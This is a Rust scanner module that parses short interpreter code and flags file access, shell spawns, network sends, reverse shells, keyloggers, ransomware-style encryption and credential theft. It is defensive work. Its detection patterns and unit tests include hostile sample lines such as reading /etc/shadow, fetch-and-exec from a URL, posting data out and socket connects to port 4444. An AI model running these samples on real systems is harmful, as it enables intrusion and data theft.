//! One pass over code of any of the languages that `-c` and `-e` take: its calls with literal arguments.

mod token;

use token::{Token, tokens};

/// Something that code does by a call.
#[derive(Debug, Clone, PartialEq)]
pub(crate) enum Call {
    Read(String),
    Write(String, Option<String>),
    Delete(String, bool),
    Mode(String, String),
    Shell(String),
    Program(Vec<String>),
    Fetch(String),
    Send(String),
    Connect(String, String),
    List(String),
    /// Code in a string.
    Code(String),
}

/// What the pass found.
#[derive(Debug, Default)]
pub(crate) struct Scan {
    pub(crate) calls: Vec<Call>,
    /// Runs text as code.
    pub(crate) evaluates: bool,
    pub(crate) decodes: bool,
    pub(crate) fetches: bool,
    pub(crate) network: bool,
    pub(crate) work_network: bool,
    pub(crate) reads_environment: bool,
    pub(crate) explores: bool,
    pub(crate) reads_unnamed: bool,
    pub(crate) writes_unnamed: bool,
    spawns_shell: bool,
    socket: bool,
    spawns: bool,
}

/// How many tokens behind a call's parenthesis are looked at.
const AHEAD: usize = 48;
/// How many calls are kept.
const CALLS: usize = 256;

/// The strings and numbers of a call, and what else stands between its parentheses.
struct Args {
    texts: Vec<String>,
    numbers: Vec<String>,
    names: Vec<String>,
    /// The strings of the first list among them.
    list: Vec<String>,
    /// The first argument is one plain string.
    literal: bool,
    empty: bool,
}

fn args_at(tokens: &[Token], from: usize) -> Args {
    let mut args = Args {
        texts: Vec::new(),
        numbers: Vec::new(),
        names: Vec::new(),
        list: Vec::new(),
        literal: false,
        empty: true,
    };
    let mut depth = 1_u32;
    let mut in_list = false;
    for (offset, token) in tokens.iter().skip(from).take(AHEAD).enumerate() {
        match token {
            Token::Mark(b'(') => depth += 1,
            Token::Mark(b')') => {
                depth -= 1;
                if depth == 0 {
                    break;
                }
            }
            Token::Mark(b'[') if args.list.is_empty() => in_list = true,
            Token::Mark(b']') => in_list = false,
            Token::Mark(b';') if depth == 1 => break,
            Token::Text(text) | Token::Command(text) => {
                if offset == 0 {
                    args.literal =
                        matches!(tokens.get(from + 1), Some(Token::Mark(b')' | b',' | b';' | b'.' | b'%')) | None);
                }
                if in_list {
                    args.list.push(text.clone());
                } else {
                    args.texts.push(text.clone());
                }
            }
            Token::Number(number) => args.numbers.push(number.clone()),
            Token::Name(name) => args.names.push(name.clone()),
            Token::Mark(_) => {}
        }
        args.empty = false;
    }
    args
}

const SHELL_CALLS: &[&str] = &[
    "system",
    "popen",
    "getoutput",
    "getstatusoutput",
    "execSync",
    "exec",
    "shell_exec",
    "passthru",
    "proc_open",
    "check_output",
    "check_call",
    "run",
    "call",
    "Popen",
    "spawn",
    "spawnSync",
    "execFile",
    "execFileSync",
    "execute",
    "spawnlp",
    "spawnvp",
    "execl",
    "execlp",
    "execv",
    "execvp",
    "execle",
    "execve",
    "execvpe",
    "popen2",
    "capture2",
    "capture2e",
    "capture3",
    "pcntl_exec",
    "create_subprocess_shell",
    "create_subprocess_exec",
    "Command",
    "posix_spawn",
    "startfile",
    "sh",
    "shell",
    "cmd",
    "openpty",
    "execa",
    "execaSync",
];

fn is_url(text: &str) -> bool {
    ["http://", "https://", "ftp://", "ws://", "wss://"].iter().any(|scheme| text.starts_with(scheme))
}

/// Whether `text` (code) keeps a dialogue with whoever is on its input.
pub(crate) fn is_interactive(text: &str) -> bool {
    text.contains("pty.spawn") || text.contains("/bin/sh") || text.contains("/bin/bash")
}

impl Scan {
    pub(crate) fn of(language: &str, text: &str) -> Self {
        let tokens = tokens(language, text);
        let mut scan = Self::default();
        let loose = matches!(language, "ruby" | "perl" | "awk" | "lua" | "php" | "tcl");
        for (index, token) in tokens.iter().enumerate() {
            if scan.calls.len() >= CALLS {
                break;
            }
            match token {
                Token::Command(command) => {
                    scan.calls.push(Call::Shell(command.clone()));
                    scan.spawns = true;
                }
                Token::Name(name) => {
                    scan.name(language, name, &tokens, index);
                    let open = tokens.get(index + 1) == Some(&Token::Mark(b'('));
                    let bare = loose && matches!(tokens.get(index + 1), Some(Token::Text(_)));
                    if open || bare {
                        let args = args_at(&tokens, index + if open { 2 } else { 1 });
                        scan.call(language, name, &args, &tokens, index);
                    }
                }
                Token::Text(text) if language == "awk" => {
                    // `"command" | getline` and `print | "command"`.
                    let piped = tokens.get(index + 1) == Some(&Token::Mark(b'|'))
                        || (index > 0 && tokens.get(index - 1) == Some(&Token::Mark(b'|')))
                        || (index > 1
                            && tokens.get(index - 1) == Some(&Token::Mark(b'&'))
                            && tokens.get(index - 2) == Some(&Token::Mark(b'|')));
                    if piped && text.contains("/inet/") {
                        scan.socket = true;
                        scan.network = true;
                    } else if piped {
                        scan.calls.push(Call::Shell(text.clone()));
                        scan.spawns = true;
                    }
                }
                _ => {}
            }
        }
        scan
    }

    fn name(&mut self, language: &str, name: &str, tokens: &[Token], index: usize) {
        let last = name.rsplit(['.', ':', '>']).next().unwrap_or(name);
        match name {
            "os.environ" | "process.env" | "ENV" | "%ENV" | "$_ENV" | "_ENV" => {
                let whole = !matches!(tokens.get(index + 1), Some(Token::Mark(b'[' | b'{')));
                self.reads_environment |= whole;
                self.explores = true;
            }
            "sys.version"
            | "sys.version_info"
            | "sys.path"
            | "sys.executable"
            | "sys.platform"
            | "sys.prefix"
            | "process.version"
            | "process.versions"
            | "process.platform"
            | "process.arch"
            | "RUBY_VERSION"
            | "PHP_VERSION"
            | "RUBY_PLATFORM"
            | "process.execPath"
            | "process.versions.node" => self.explores = true,
            _ => {}
        }
        if name.starts_with("os.environ.") && !name.starts_with("os.environ.get") && last != "setdefault" {
            self.reads_environment |= matches!(last, "copy" | "items" | "values");
        }
        if matches!(last, "__version__" | "VERSION" | "__file__") {
            self.explores = true;
        }
        if matches!(
            last,
            "b64decode"
                | "decode64"
                | "urlsafe_decode64"
                | "strict_decode64"
                | "base64_decode"
                | "gzinflate"
                | "str_rot13"
                | "atob"
                | "fromhex"
                | "unhexlify"
                | "a85decode"
                | "b85decode"
                | "b32decode"
                | "decode_base64"
                | "decompress"
                | "hex2bin"
                | "convert_uudecode"
        ) {
            self.decodes = true;
        }
        if matches!(
            last,
            "socket"
                | "TCPSocket"
                | "INET"
                | "fsockopen"
                | "UDPSocket"
                | "pfsockopen"
                | "Socket"
                | "TCPServer"
                | "socket_create"
                | "stream_socket_client"
                | "createConnection"
                | "create_connection"
        ) || name.starts_with("net.")
            || name.starts_with("socket.")
            || ["TCPSocket", "TCPServer", "IO::Socket"].iter().any(|part| name.contains(part))
        {
            self.socket = true;
            self.network = true;
        }
        if matches!(
            last,
            "urlopen"
                | "urlretrieve"
                | "requests"
                | "httpx"
                | "aiohttp"
                | "fetch"
                | "axios"
                | "HTTP"
                | "LWP"
                | "UserAgent"
                | "http.client"
                | "curl_exec"
                | "getstore"
        ) {
            self.network = true;
        }
        let _ = language;
    }

    fn call(&mut self, language: &str, name: &str, args: &Args, tokens: &[Token], index: usize) {
        let last = name.rsplit(['.', ':', '>']).next().unwrap_or(name);
        let first = args.texts.first();
        let url = args.texts.iter().chain(&args.list).find(|text| is_url(text));
        let has_name = |wanted: &[&str]| args.names.iter().any(|name| wanted.contains(&name.as_str()));
        // Running text as code.
        let evaluates = match language {
            "python" => {
                matches!(name, "exec" | "eval" | "__import__('builtins').exec")
                    || matches!(last, "runsource" | "run_code")
            }
            "node" => matches!(name, "eval" | "Function") || matches!(last, "runInThisContext" | "runInNewContext"),
            "php" => matches!(name, "eval" | "assert" | "create_function"),
            "ruby" => matches!(last, "eval" | "instance_eval" | "class_eval"),
            "perl" => name == "eval",
            "lua" => matches!(name, "load" | "loadstring"),
            _ => false,
        };
        if evaluates && !args.literal && !args.empty {
            self.evaluates = true;
        }
        if evaluates
            && args.literal
            && let Some(code) = first.filter(|code| code.len() > 8)
        {
            self.calls.push(Call::Code(code.clone()));
        }
        if matches!(last, "from" | "unpack" | "decode" | "loads")
            && args
                .texts
                .iter()
                .any(|text| matches!(text.as_str(), "base64" | "hex" | "m" | "m*" | "m0" | "rot13" | "rot_13"))
        {
            self.decodes = true;
        }
        if name == "marshal.loads" {
            self.decodes = true;
        }
        // Network.
        let fetcher = matches!(
            last,
            "urlopen"
                | "urlretrieve"
                | "get"
                | "post"
                | "put"
                | "patch"
                | "head"
                | "delete"
                | "request"
                | "fetch"
                | "Request"
                | "download"
                | "getstore"
                | "open"
                | "file_get_contents"
                | "URI"
                | "parse"
                | "new"
                | "curl_init"
                | "readfile"
                | "fopen"
                | "copy"
                | "Client"
                | "axios"
                | "WebSocket"
                | "connect"
                | "send"
                | "upload"
                | "getprint"
                | "stream"
                | "options"
                | "URL"
                | "got"
                | "createReadStream"
                | "LoadExternalEntity"
        );
        if let Some(url) = url.filter(|_| fetcher) {
            self.network = true;
            self.fetches = true;
            let sends = matches!(last, "post" | "put" | "patch" | "upload" | "send")
                || has_name(&["data", "files", "json", "body", "content"])
                || args.texts.iter().any(|text| matches!(text.as_str(), "POST" | "PUT"));
            self.calls.push(if sends { Call::Send(url.clone()) } else { Call::Fetch(url.clone()) });
            return;
        }
        if matches!(last, "urlopen" | "urlretrieve" | "fetch" | "getstore" | "curl_exec")
            || (matches!(last, "get" | "post" | "put" | "request")
                && (name.starts_with("requests.")
                    || name.starts_with("httpx.")
                    || name.starts_with("axios.")
                    || name.starts_with("http.")
                    || name.starts_with("https.")
                    || name.starts_with("Net::HTTP")))
        {
            self.network = true;
            self.fetches = true;
            self.work_network = true;
        }
        if matches!(
            last,
            "connect"
                | "create_connection"
                | "createConnection"
                | "connect_ex"
                | "fsockopen"
                | "pfsockopen"
                | "open_connection"
                | "stream_socket_client"
        ) || name.contains("TCPSocket")
            || name.contains("IO::Socket::INET")
            || (last == "sendto" && self.socket)
        {
            let host = args.texts.iter().find(|text| !text.is_empty() && !text.contains(' ')).cloned();
            let port = args.numbers.first().cloned().unwrap_or_default();
            let database = args.texts.iter().any(|text| {
                text.ends_with(".db") || text.ends_with(".sqlite") || text.ends_with(".sqlite3") || text == ":memory:"
            });
            if database || name.starts_with("sqlite3") {
                self.reads_unnamed = true;
                if let Some(path) = first.filter(|path| path.as_str() != ":memory:") {
                    self.calls.push(Call::Read(path.clone()));
                }
                return;
            }
            self.network = true;
            if let Some(host) = host.filter(|host| !host.contains('/') && (host.contains('.') || host == "localhost")) {
                let (host, port) = match host.rsplit_once(':') {
                    Some((host, port)) => (host.to_owned(), port.to_owned()),
                    None => (host, port),
                };
                self.calls.push(Call::Connect(host, port));
                return;
            }
        }
        // Other programs.
        let python_run = language != "python"
            || !matches!(last, "run" | "call" | "exec" | "sh" | "shell" | "cmd" | "Command" | "execute" | "spawn")
            || name.starts_with("subprocess")
            || name.starts_with("sp.")
            || name.starts_with("pty")
            || name.starts_with("sh.");
        let node_exec = language != "node"
            || !matches!(last, "exec" | "run" | "call" | "sh" | "cmd" | "execute" | "Command" | "system" | "shell")
            || is_child_process(name, tokens, index);
        if SHELL_CALLS.contains(&last)
            && python_run
            && node_exec
            && !(language == "php" && last == "execute")
            && !(language == "ruby" && matches!(last, "call" | "run" | "execute"))
        {
            self.spawns = true;
            let spawn_like = !args.list.is_empty();
            if spawn_like {
                let mut argv = Vec::new();
                if let Some(program) = first.filter(|_| {
                    language == "node" || last.starts_with("exec") || last.starts_with("spawn") || last == "pcntl_exec"
                }) {
                    argv.push(program.clone());
                    let replaces = last.starts_with("execv") || last.starts_with("spawnv");
                    argv.extend(args.list.iter().skip(usize::from(replaces)).cloned());
                } else {
                    argv.extend(args.list.iter().cloned());
                }
                self.note_shell(&argv);
                self.calls.push(Call::Program(argv));
            } else if last.starts_with("execl") || last.starts_with("spawnl") {
                let argv: Vec<String> =
                    args.texts.iter().enumerate().filter(|(at, _)| *at != 1).map(|(_, text)| text.clone()).collect();
                self.note_shell(&argv);
                self.calls.push(Call::Program(argv));
            } else if args.texts.len() > 1 && matches!(last, "system" | "exec" | "spawn") && loose_list(language) {
                self.note_shell(&args.texts);
                self.calls.push(Call::Program(args.texts.clone()));
            } else if let Some(command) = first {
                self.note_shell(std::slice::from_ref(command));
                self.calls.push(Call::Shell(command.clone()));
            }
            return;
        }
        // Files.
        let writes_mode = args.texts.iter().skip(1).any(|mode| {
            mode.len() <= 4
                && !mode.is_empty()
                && mode.bytes().all(|b| b"rwaxbt+<>".contains(&b))
                && mode.contains(['w', 'a', 'x', '>', '+'])
        });
        match last {
            "open" | "fopen" | "openSync" | "TextIOWrapper"
                if name != "webbrowser.open" && !name.starts_with("Image") =>
            {
                if language == "perl" {
                    if let Some(target) = args.texts.last() {
                        let write = args.texts.iter().any(|text| text.starts_with('>') || text.starts_with("+<"));
                        let piped = args
                            .texts
                            .iter()
                            .any(|text| text.starts_with('|') || text.ends_with('|') || text == "-|" || text == "|-");
                        let path = target.trim_start_matches(['<', '>', '+', ' ']).to_owned();
                        if piped {
                            self.spawns = true;
                            self.calls.push(Call::Shell(target.trim_matches(['|', ' ']).to_owned()));
                        } else if write {
                            self.calls.push(Call::Write(path, None));
                        } else {
                            self.calls.push(Call::Read(path));
                        }
                    }
                    return;
                }
                match first {
                    Some(path) if args.literal => {
                        if writes_mode {
                            let content = written_text(tokens, index);
                            self.calls.push(Call::Write(path.clone(), content));
                        } else {
                            self.calls.push(Call::Read(path.clone()));
                        }
                    }
                    Some(path) if path.contains('/') && !path.contains(' ') => {
                        self.calls.push(if writes_mode {
                            Call::Write(path.clone(), None)
                        } else {
                            Call::Read(path.clone())
                        });
                    }
                    _ => {
                        let mode =
                            args.texts.first().is_some_and(|mode| mode.len() <= 3 && mode.contains(['w', 'a', 'x']));
                        self.writes_unnamed |= mode || writes_mode;
                        self.reads_unnamed |= !(mode || writes_mode);
                    }
                }
            }
            "readFileSync" | "readFile" | "read_csv" | "read_json" | "read_excel" | "read_parquet" | "read_table"
            | "load_file" | "readlines" | "foreach" | "file_get_contents" | "loadtxt" | "genfromtxt"
            | "createReadStream" | "file" | "readfile" | "read_file" | "imread" | "safe_load_file" | "slurp"
            | "scan_csv" | "read_text" | "read_bytes" | "parse_file" | "readJson" | "readJsonSync"
            | "highlight_file" | "show_source" | "load_workbook" | "loadFile" | "readTextFile" | "linecache" => {
                match first {
                    Some(path) if args.literal => self.calls.push(Call::Read(path.clone())),
                    _ => {
                        if let Some(path) = path_before(tokens, index) {
                            self.calls.push(Call::Read(path));
                        } else {
                            self.reads_unnamed = true;
                        }
                    }
                }
            }
            "read" if name.starts_with("File.") || name.starts_with("IO.") => {
                if let Some(path) = first {
                    self.calls.push(Call::Read(path.clone()));
                }
            }
            "writeFileSync" | "writeFile" | "appendFileSync" | "appendFile" | "file_put_contents" | "to_csv"
            | "to_json" | "to_excel" | "to_parquet" | "createWriteStream" | "outputFile" | "outputFileSync"
            | "writeTextFile" | "writeJson" => match first {
                Some(path) if args.literal => self.calls.push(Call::Write(path.clone(), args.texts.get(1).cloned())),
                _ => self.writes_unnamed = true,
            },
            "write" if name.starts_with("File.") || name.starts_with("IO.") || name.starts_with("Bun.") => {
                if let Some(path) = first {
                    self.calls.push(Call::Write(path.clone(), args.texts.get(1).cloned()));
                }
            }
            "write_text" | "write_bytes" => match path_before(tokens, index) {
                Some(path) => self.calls.push(Call::Write(path, first.cloned())),
                None => self.writes_unnamed = true,
            },
            "rmtree" | "rmSync" | "rm_rf" | "rm_r" | "removeSync" | "emptyDirSync" | "remove_tree" | "rimraf" => {
                if let Some(path) = first {
                    self.calls.push(Call::Delete(path.clone(), true));
                }
            }
            "remove" | "unlink" | "unlinkSync" | "rmdirSync" | "rmdir" | "rm" | "rm_f" => {
                if let Some(path) = first {
                    self.calls.push(Call::Delete(path.clone(), false));
                }
            }
            "chmod" | "chmodSync" => {
                if let Some(path) = first {
                    let mode = args
                        .numbers
                        .first()
                        .map(|number| number.trim_start_matches("0o").to_owned())
                        .unwrap_or_default();
                    self.calls.push(Call::Mode(path.clone(), mode));
                }
            }
            "copy" | "copyfile" | "copy2" | "copytree" | "copyFileSync" | "move" | "rename" | "renameSync" | "cp"
                if !args.texts.is_empty() =>
            {
                let mut argv = vec!["cp".to_owned(), "-r".to_owned()];
                argv.extend(args.texts.iter().take(2).cloned());
                if argv.len() == 4 {
                    self.calls.push(Call::Program(argv));
                }
            }
            "listdir" | "readdirSync" | "scandir" | "glob" | "iglob" | "walk" | "readdir" | "Dir.glob" | "entries"
            | "getcwd" | "uname" | "cpu_count" | "getuser" | "gethostname" | "which" | "hostname" | "cpus"
            | "platform" | "system_info" | "machine" | "node" | "processor" | "find_spec" | "phpversion"
            | "phpinfo" | "cwd" | "userInfo" | "totalmem" | "freemem" | "getpid" | "getuid" | "is_available"
            | "device_count" => match first {
                Some(path) if matches!(last, "listdir" | "readdirSync" | "scandir" | "walk" | "readdir") => {
                    self.calls.push(Call::List(path.clone()))
                }
                _ => self.explores = true,
            },
            "version" if args.literal || args.empty => self.explores = true,
            _ => {}
        }
    }

    fn note_shell(&mut self, argv: &[String]) {
        let Some(first) = argv.first() else { return };
        let mut words = first.split_whitespace();
        let program = words.next().unwrap_or_default().rsplit('/').next().unwrap_or_default();
        let rest: Vec<&str> = words.chain(argv.iter().skip(1).map(String::as_str)).collect();
        let shell = matches!(program, "sh" | "bash" | "dash" | "zsh" | "ash" | "ksh" | "csh" | "fish" | "cmd.exe");
        let interactive = rest.iter().all(|arg| {
            matches!(*arg, "-i" | "-p" | "-l" | "sh" | "bash" | "--login")
                || arg.contains('<')
                || arg.contains('>')
                || arg.contains('&')
        });
        if shell && interactive {
            self.spawns_shell = true;
        }
    }

    /// Features that rules know by name.
    pub(crate) fn features(&self, language: &str, text: &str) -> Vec<&'static str> {
        let has = |word: &str| text.contains(word);
        let mut features = Vec::new();
        let shell_word = has("/bin/sh")
            || has("/bin/bash")
            || has("/bin/zsh")
            || has("sh -i")
            || has("bash -i")
            || has("\"sh\"")
            || has("'sh'")
            || has("cmd.exe")
            || has("'bash'")
            || has("\"bash\"");
        let ties = has("dup2")
            || has("pty.spawn")
            || has("pty.fork")
            || has(">&%d")
            || has("fdopen")
            || has("STDIN,\">&")
            || has("<&3")
            || has(".pipe(")
            || has("open(STD");
        let listens = has(".listen(") || has(".accept(") || has("createServer") || has("TCPServer") || has("bind(");
        // Modules may have been given other names: what is done shows all the same.
        let aliased = language == "python"
            && (has("import socket") || has("socket as"))
            && (has(".recv(") || has(".makefile("))
            && (has("shell=True")
                || has("os.system(")
                || has("os.popen(")
                || has("check_output(")
                || has(".getoutput("));
        if aliased || self.socket && ((ties && (shell_word || self.spawns)) || self.spawns_shell) {
            features.push("reverse-shell");
        } else if self.socket
            && self.spawns
            && (has("recv(")
                || has(".read(")
                || has(".gets")
                || has("on('data'")
                || has("on(\"data\"")
                || has("fgets")
                || has("fread")
                || has("getline")
                || has(".receive("))
        {
            // Reads commands from a socket and runs them.
            features.push("reverse-shell");
        } else if language == "awk" && has("/inet/") && (has("getline") && self.spawns || has("|&")) {
            features.push("reverse-shell");
        }
        if has("pty.spawn") && !self.socket {
            features.push("pty-spawn");
        }
        if self.spawns_shell && !self.socket {
            features.push("spawns-shell");
        }
        if has("setuid(0)") || has("setuid(0,") || has("setresuid(0") || has("setreuid(0") || has("setgid(0)") {
            features.push("setuid");
        }
        if has("keyring.get_password") || has("browser_cookie3") || has("secretstorage") {
            features.push("keyring");
        }
        if (has("prctl(15") || has("PR_SET_NAME") || has("setproctitle"))
            && (has("kworker") || has("[k") || has("systemd") || has("sshd"))
        {
            features.push("renames-itself");
        }
        if has("memfd_create") {
            features.push("memfd");
        }
        if has("os.fork()") && has("while")
            || has("fork while")
            || has("fork() while")
            || has("loop{fork")
            || has("loop { fork")
        {
            features.push("fork-bomb");
        }
        if has("pynput") || has("keyboard.on_press") || has("GetAsyncKeyState") {
            features.push("keylogger");
        }
        if has("ImageGrab") || has("pyautogui.screenshot") || has("mss.mss") {
            features.push("screen-capture");
        }
        if has("pyperclip.paste") {
            features.push("clipboard");
        }
        if (has("os.walk") || has("glob"))
            && (has("Fernet") || has("AES.new") || has(".encrypt("))
            && (has("'wb'") || has("\"wb\"") || has("write"))
        {
            features.push("encrypts-files");
        }
        if has("PTRACE") || has("process_vm_writev") || (has("/proc/") && has("/mem") && has("open")) {
            features.push("process-memory");
        }
        if has("os.utime") && listens {
            features.push("timestamps");
        }
        features
    }
}

fn loose_list(language: &str) -> bool {
    matches!(language, "perl" | "ruby")
}

/// Whether `exec` belongs to node's `child_process` and not to a regular expression.
fn is_child_process(name: &str, tokens: &[Token], index: usize) -> bool {
    if !name.starts_with('.') {
        return name.starts_with("child_process")
            || name.starts_with("cp.")
            || matches!(name, "exec" | "execSync" | "execa");
    }
    tokens
        .iter()
        .take(index)
        .rev()
        .take(4)
        .any(|token| matches!(token, Token::Text(text) if text.ends_with("child_process")))
}

/// The literal path that a method is called on: `Path('x').read_text()`.
fn path_before(tokens: &[Token], index: usize) -> Option<String> {
    tokens.get(..index)?.iter().rev().take(3).find_map(|token| match token {
        Token::Text(text) => Some(text.clone()),
        _ => None,
    })
}

/// The literal that is written right after a file is opened: `open('x','w').write('…')`.
fn written_text(tokens: &[Token], index: usize) -> Option<String> {
    let mut seen = false;
    for token in tokens.iter().skip(index).take(40) {
        match token {
            Token::Name(name) if name.ends_with(".write") || name == "write" => seen = true,
            Token::Text(text) if seen => return Some(text.clone()),
            _ => {}
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::{Call, Scan};

    fn calls(language: &str, text: &str) -> Vec<Call> {
        Scan::of(language, text).calls
    }

    #[test]
    fn calls_are_found_in_every_language() {
        assert_eq!(calls("python", "print(open('/etc/shadow').read())"), [Call::Read("/etc/shadow".into())]);
        assert_eq!(calls("python", "open('a.txt','w').write('hi')"), [Call::Write("a.txt".into(), Some("hi".into()))]);
        assert_eq!(
            calls("python", "from pathlib import Path; Path('x').write_text('y')"),
            [Call::Write("x".into(), Some("y".into()))]
        );
        assert_eq!(calls("python", "import os; os.system('id')"), [Call::Shell("id".into())]);
        assert_eq!(calls("python", "subprocess.run(['ls','-l'])"), [Call::Program(vec!["ls".into(), "-l".into()])]);
        assert_eq!(calls("node", "require('child_process').execSync('ls')"), [Call::Shell("ls".into())]);
        assert_eq!(calls("node", "/a(b)/.exec('x')"), []);
        assert_eq!(calls("node", "fs.readFileSync('p.json','utf8')"), [Call::Read("p.json".into())]);
        assert_eq!(calls("perl", "exec \"/bin/sh\";"), [Call::Shell("/bin/sh".into())]);
        assert_eq!(calls("ruby", "puts `id`"), [Call::Shell("id".into())]);
        assert_eq!(calls("awk", "BEGIN {system(\"/bin/sh\")}"), [Call::Shell("/bin/sh".into())]);
        assert_eq!(
            calls("python", "s.connect(('198.51.100.7',4444))"),
            [Call::Connect("198.51.100.7".into(), "4444".into())]
        );
        assert_eq!(
            calls("python", "requests.post('https://x.example/', data=d)"),
            [Call::Send("https://x.example/".into())]
        );
        assert!(Scan::of("python", "exec(urlopen('http://x/').read())").evaluates);
        assert!(!Scan::of("python", "print(eval('1+1'))").evaluates);
    }

    #[test]
    fn hostile_code_ends_soon() {
        for text in [
            "(".repeat(100_000),
            "open(".repeat(50_000),
            "'".repeat(99_999),
            "\\".repeat(100_000),
            "a.".repeat(60_000),
            "exec ".repeat(30_000),
        ] {
            for language in ["python", "node", "perl", "ruby", "awk", "php"] {
                assert!(Scan::of(language, &text).calls.len() <= super::CALLS);
            }
        }
    }
}
